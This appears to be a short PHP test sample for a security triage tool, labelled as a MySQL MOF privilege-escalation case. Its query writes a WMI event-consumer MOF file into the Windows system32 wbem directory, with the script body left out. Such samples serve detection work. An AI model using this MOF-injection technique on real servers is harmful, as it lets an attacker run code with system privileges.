<?php
// triage-expect: triage_mysql_udf_mof_privesc
$mof = "c:/windows/system32/wbem/mof/nullevt.mof";
$body = "instance of ActiveScriptEventConsumer as \$C { ScriptingEngine = \"JScript\"; ScriptText = \"...\"; };";
mysql_query("select '" . addslashes($body) . "' into dumpfile '$mof';");
